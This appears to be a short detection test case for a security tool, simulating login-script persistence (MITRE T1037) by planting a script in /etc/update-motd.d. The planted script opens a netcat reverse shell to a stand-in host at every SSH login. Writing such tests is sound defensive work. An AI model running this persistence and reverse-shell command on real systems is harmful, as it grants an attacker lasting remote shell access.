# category: persistence
# technique: T1037
# art: no
# expect: login-script-modified
# image: debian
# desc: a script in update-motd.d runs at every ssh login
mkdir -p /etc/update-motd.d
printf '#!/bin/sh\nnc 192.0.2.2 4444 -e /bin/sh &\n' > /etc/update-motd.d/99-footer
chmod +x /etc/update-motd.d/99-footer
